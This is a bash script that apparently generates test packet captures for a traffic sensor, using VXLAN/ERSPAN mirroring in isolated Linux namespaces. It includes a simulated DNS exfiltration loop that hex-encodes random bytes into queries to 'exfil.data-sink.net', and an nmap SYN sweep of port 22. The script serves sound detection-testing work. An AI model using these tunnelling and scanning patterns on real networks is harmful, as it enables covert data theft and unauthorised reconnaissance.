#!/usr/bin/env bash
# Regenerates the mirrored-traffic captures in pcaps/ (mirror.md beside this file describes each):
#
#   pcaps/scripts/make_mirror.sh                     # everything
#   pcaps/scripts/make_mirror.sh vxlan_dig_loop wrap  # only these steps
#
# Steps:
#   vxlan_dig_loop, vxlan_nmap_sweep   (root) a real Linux VXLAN mirror: the switch-side veth of
#       the home↔inet pair is mirrored with tc (u32 match-all + mirred) into a `type vxlan`
#       device whose remote is a sensor namespace; tcpdump captures the sensor's underlay.
#   wrap   (no root) ERSPAN II/III and GRE-TEB captures: frames of the real captures
#       dns_dig_loop.pcap and scan_nmap_p22_sweep.pcap wrapped by mirror_wrap.py (scapy), plus
#       mirror_malformed.pcap. This kernel has no GRE modules (`type gretap`/`type erspan`:
#       "Unknown device type"), so these cannot be made by the kernel here.
#
# Needs: iproute2 (tc), tcpdump, tshark, dnsmasq, dig, nmap, ncat, xxd, Debian's python3-scapy.
# Namespaces: sghome, sginet (netns.sh, prefix sg), sgsens (the sensor).
set -euo pipefail
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=$(cd "$HERE/.." && pwd)
# shellcheck source=netns.sh
source "$HERE/netns.sh"
set +o pipefail # the pipelines below are generators and tshark summaries

PY=/usr/bin/python3
WORK=$(mktemp -d /tmp/siphon-mirror.XXXXXX)
LOG=$WORK/log
BG_PIDS=()
NS_SENS=sgsens
UL_SWITCH=sgu0 # underlay, switch (VTEP) side, in sginet
UL_SENS=sgu1   # underlay, sensor side, in sgsens
VX=sgvx
VTEP_IP=10.99.250.1
SENSOR_IP=10.99.250.2
VNI=4242

H() { ip netns exec "$NS_HOME" "$@"; }
I() { ip netns exec "$NS_NET" "$@"; }
cleanup() {
  set +e
  [ -n "${CAP_PID:-}" ] && kill -INT "$CAP_PID" 2>/dev/null
  kill_bg
  ip netns del "$NS_SENS" 2>/dev/null
  netns_down
  rm -rf "$WORK"
}
inet_addr() { ip -n "$NS_NET" addr add "$1/32" dev lo 2>/dev/null || true; }
tsum() {
  local f=$1 flt=$2; shift 2
  local args=(); for x in "$@"; do args+=(-e "$x"); done
  tshark -r "$f" -Y "$flt" -T fields "${args[@]}" 2>/dev/null | sort | uniq -c | sort -rn | head -15 || true
}

# The mirror: sginet is the "switch". Its veth to home (sgvn) is mirrored both ways into a
# kernel VXLAN device (VNI 4242, UDP 4789) whose remote is the sensor namespace over a /30
# underlay. The sensor has no VXLAN device, so its kernel answers with ICMP port-unreachables
# (rate-limited): a real sensor does the same unless it drops them.
mirror_up() {
  netns_up sg
  trap cleanup EXIT
  ip netns del "$NS_SENS" 2>/dev/null || true
  ip netns add "$NS_SENS"
  for ns in "$NS_HOME" "$NS_NET" "$NS_SENS"; do
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  done
  ip link add "$UL_SWITCH" type veth peer name "$UL_SENS"
  ip link set "$UL_SWITCH" netns "$NS_NET"
  ip link set "$UL_SENS" netns "$NS_SENS"
  ip -n "$NS_NET" addr add "$VTEP_IP/30" dev "$UL_SWITCH"
  ip -n "$NS_SENS" addr add "$SENSOR_IP/30" dev "$UL_SENS"
  # Room for a full 1514-byte frame + 50 bytes of VXLAN/UDP/IP: no underlay fragmentation.
  ip -n "$NS_NET" link set "$UL_SWITCH" mtu 1600 up
  ip -n "$NS_SENS" link set "$UL_SENS" mtu 1600 up
  ip -n "$NS_SENS" link set lo up
  ip -n "$NS_NET" link add "$VX" type vxlan id "$VNI" local "$VTEP_IP" remote "$SENSOR_IP" dstport 4789 dev "$UL_SWITCH"
  ip -n "$NS_NET" link set "$VX" mtu 1500 up
  # matchall and flower are not built on these machines; u32 matching 0 bytes matches all.
  I tc qdisc add dev "$VN" clsact
  I tc filter add dev "$VN" ingress protocol all u32 match u8 0 0 action mirred egress mirror dev "$VX"
  I tc filter add dev "$VN" egress protocol all u32 match u8 0 0 action mirred egress mirror dev "$VX"
  I tc -s filter show dev "$VN" ingress >>"$LOG"
}

# tcpdump on the sensor's underlay interface: everything the sensor receives and sends there.
underlay_start() {
  CAP_FILE=$OUT/$1
  rm -f "$CAP_FILE"
  ip netns exec "$NS_SENS" tcpdump -i "$UL_SENS" -w "$CAP_FILE" -U -s 0 >/dev/null 2>&1 &
  CAP_PID=$!
  sleep 1
}
underlay_stop() {
  sleep 1
  kill -INT "$CAP_PID" 2>/dev/null || true
  wait "$CAP_PID" 2>/dev/null || true
  CAP_PID=
  kill_bg
  chmod 644 "$CAP_FILE"
  echo "--- $(basename "$CAP_FILE"): $(stat -c %s "$CAP_FILE") bytes"
  tshark -r "$CAP_FILE" -q -z io,phs 2>/dev/null | sed -n '/^eth/,/^=/p' || true
  echo "VXLAN packets: $(tshark -r "$CAP_FILE" -Y vxlan 2>/dev/null | wc -l), ICMP port-unreachable from the sensor: $(tshark -r "$CAP_FILE" -Y "icmp.type==3 && ip.src==$SENSOR_IP" 2>/dev/null | wc -l)"
}

dnsmasq_auth() {
  local addr=$1 dom=$2
  inet_addr "$addr"
  i_bg dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces \
    --listen-address="$addr" --user=root --group=root --pid-file="$WORK/dnsmasq.pid" \
    --cache-size=0 --address=/#/192.0.2.80 --local=/#/ --address="/$dom/192.0.2.53" --local="/$dom/"
  wait_until 10 I bash -c "ss -lun | grep -q '$addr:53 '"
}

# The DNS dig loop of make_dns_icmp_scan.sh (same client, server and domain), seen through the
# VXLAN mirror.
vxlan_dig_loop() {
  local src=10.99.0.14 res=198.51.100.53 dom=data-sink.net n=0
  use_src "$src"
  dnsmasq_auth "$res" "$dom"
  underlay_start mirror_vxlan_dig_loop.pcap
  head -c 3000 /dev/urandom | xxd -p | fold -w 60 | while read -r c; do
    n=$((n + 1))
    H dig +short +tries=1 +time=1 @"$res" "$c.$n.exfil.$dom" TXT >/dev/null || true
  done
  underlay_stop
  tsum "$CAP_FILE" "vxlan && dns" ip.src ip.dst dns.flags.response
}

# The nmap port-22 sweep of make_dns_icmp_scan.sh, seen through the VXLAN mirror.
vxlan_nmap_sweep() {
  use_src 10.99.0.34
  local a
  for a in 203.0.113.10 203.0.113.11 203.0.113.40 203.0.113.200; do i_bg ncat -l -k "$a" 22; done
  sleep 0.5
  underlay_start mirror_vxlan_nmap_sweep.pcap
  H nmap -n -e "$VH" -S "$SRC" -sS -Pn -p 22 203.0.113.0/24 >>"$LOG" 2>&1 || true
  underlay_stop
  echo "inner SYNs to :22: $(tshark -r "$CAP_FILE" -Y 'vxlan && tcp.flags==0x002 && tcp.dstport==22' 2>/dev/null | wc -l), inner SYN-ACKs: $(tshark -r "$CAP_FILE" -Y 'vxlan && tcp.flags==0x012' 2>/dev/null | wc -l)"
}

wrap() {
  "$PY" "$HERE/mirror_wrap.py" "$OUT"
  local f
  for f in mirror_erspan2_dig_loop mirror_erspan3_dig_loop mirror_erspan3_nmap_sweep mirror_gre_teb_dig_loop mirror_malformed; do
    echo "--- $f.pcap: $(stat -c %s "$OUT/$f.pcap") bytes"
    tshark -r "$OUT/$f.pcap" -q -z io,phs 2>/dev/null | sed -n '/^eth/,/^=/p' || true
  done
}

trap cleanup EXIT
STEPS=(vxlan_dig_loop vxlan_nmap_sweep wrap)
[ $# -gt 0 ] && STEPS=("$@")
needs_root=0
for s in "${STEPS[@]}"; do [ "$s" != wrap ] && needs_root=1; done
if [ "$needs_root" = 1 ]; then
  [ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
  mirror_up
fi
trap 'exit 130' INT TERM
for s in "${STEPS[@]}"; do
  say "$s"
  "$s"
done
say done
